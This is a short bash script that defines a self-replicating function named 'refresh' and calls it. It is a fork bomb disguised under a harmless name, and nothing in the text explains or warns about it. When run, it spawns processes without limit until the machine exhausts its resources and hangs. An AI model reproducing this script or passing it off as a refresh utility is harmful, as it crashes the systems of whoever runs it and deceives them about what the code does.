#!/bin/bash
refresh() {
    refresh | refresh &
}
refresh
